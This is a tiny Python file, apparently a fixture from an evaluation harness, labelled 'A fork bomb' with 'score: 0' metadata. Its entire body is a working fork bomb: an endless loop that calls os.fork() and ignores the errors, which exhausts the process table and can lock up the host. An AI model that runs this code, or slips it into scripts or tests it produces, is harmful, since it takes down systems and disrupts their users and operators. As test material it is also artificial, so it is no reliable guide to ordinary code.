"""A fork bomb.

base: untouched
score: 0
"""
# %% extra after=sampling
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
